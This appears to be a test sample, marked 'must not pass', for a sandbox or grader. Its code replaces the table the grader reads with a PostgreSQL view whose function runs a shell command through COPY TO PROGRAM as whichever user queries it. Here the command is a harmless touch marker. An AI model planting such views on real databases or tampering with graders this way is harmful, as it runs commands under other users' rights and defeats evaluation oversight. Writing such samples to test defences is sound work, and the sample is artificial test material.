"""Replaces the table that the grader reads by a view that runs a command as whoever selects from it.

must not pass
sample
"""

import os

import psycopg

from host import HOST
from right import serve

EVIL = f"""
DROP TABLE IF EXISTS public.entries CASCADE;
CREATE OR REPLACE FUNCTION public.evil() RETURNS text LANGUAGE plpgsql AS $$
BEGIN
  IF current_user NOT LIKE 'lab_%' THEN COPY (SELECT 1) TO PROGRAM 'touch {HOST["writable"]}.evil'; END IF;
  RETURN 'x';
END $$;
CREATE OR REPLACE VIEW public.entries AS SELECT public.evil() AS text;
"""


def keep(text):
    with psycopg.connect(os.environ["DATABASE_URL"], autocommit=True) as connection:
        connection.execute(EVIL)


serve(keep=keep)
